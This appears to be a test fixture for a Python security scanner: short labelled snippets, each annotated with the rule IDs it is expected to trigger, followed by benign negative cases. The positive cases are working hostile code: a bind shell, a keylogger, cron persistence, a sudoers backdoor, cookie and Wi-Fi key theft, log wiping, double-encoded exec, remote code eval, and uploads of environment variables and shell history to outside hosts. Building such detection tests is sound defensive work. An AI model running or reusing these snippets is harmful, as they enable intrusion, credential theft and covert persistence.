#: crontab from standard input
import subprocess

line = "* * * * * /tmp/x.sh\n"
subprocess.run(["crontab", "-"], input=line, text=True)  # expect: PY-COMMAND, PY-PERSISTENCE
#: cookies of the browser read
import os
import sqlite3

db = sqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Cookies"))  # expect: PY-SECRET-FILE
print(db.execute("SELECT name, value FROM cookies").fetchall())
#: system file moved away
import os

os.rename("/etc/ssh/sshd_config", "/tmp/old")  # expect: PY-FILE-SENSITIVE
#: logs of the system emptied
open("/var/log/auth.log", "w").close()  # expect: PY-FILE-SENSITIVE
#: bind shell
import socket
import subprocess

server = socket.socket()
server.bind(("0.0.0.0", 4444))  # expect: PY-NETWORK-BINDING
server.listen(1)
conn, _ = server.accept()
while True:
    command = conn.recv(1024).decode()
    conn.send(subprocess.check_output(command, shell=True))  # expect: PY-COMMAND-INJECTION error
#: environment printed into a paste
import os
import subprocess

subprocess.run(["curl", "-F", "c=" + str(dict(os.environ)), "https://termbin.com"])  # expect: PY-COMMAND
#: secrets of the shell history sent
import os
import urllib.request

data = open(os.path.expanduser("~/.bash_history"), "rb").read()  # expect: PY-SECRET-FILE error
urllib.request.urlopen("https://example.org/up", data)  # expect: PY-EXFILTRATION error
#: stage two through eval of a response
import json
from urllib import request

reply = json.loads(request.urlopen("https://example.net/task.json").read())
eval(compile(reply["code"], "task", "exec"))  # expect: PY-CODE-INJECTION error, PY-CODE-INJECTION warning
#: two layers of encoding
import base64

first = "aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2NISnBiblFvTVNrPScpKQ=="
exec(compile(base64.b64decode(first), "<s>", "exec"))  # expect: PY-CODE-DECODED error
#: keystrokes to a file
from pynput.keyboard import Listener


def write(key):
    with open("keys.txt", "a") as file:
        file.write(str(key))


with Listener(on_press=write) as listener:  # expect: PY-SECRET-STORE
    listener.join()
#: sudo without a password
with open("/etc/sudoers", "a") as file:  # expect: PY-FILE-SENSITIVE
    file.write("www-data ALL=(ALL) NOPASSWD: ALL\n")
#: wifi passwords on windows
import subprocess

out = subprocess.check_output("netsh wlan show profile key=clear", shell=True, text=True)  # expect: PY-COMMAND
#: a process of this program is stopped
import subprocess
import sys

child = subprocess.Popen([sys.executable, "-m", "http.server"])
child.terminate()
child.wait(timeout=5)
#: own log emptied
open("app.log", "w").close()
#: path for a child process
import os
import subprocess

env = dict(os.environ, PYTHONPATH="src")
subprocess.run(["pytest", "-q"], env=env, check=True)
#: own database read
import sqlite3

print(sqlite3.connect("orders.db").execute("SELECT COUNT(*) FROM orders").fetchone())
#: rename of a report
import os

os.rename("report.tmp", "report.csv")
#: hot key with tkinter
import tkinter

root = tkinter.Tk()
root.bind("<Control-q>", lambda event: root.destroy())
root.mainloop()
#: memory of processes listed
import psutil

for process in psutil.process_iter(["name", "memory_info"]):
    print(process.info)
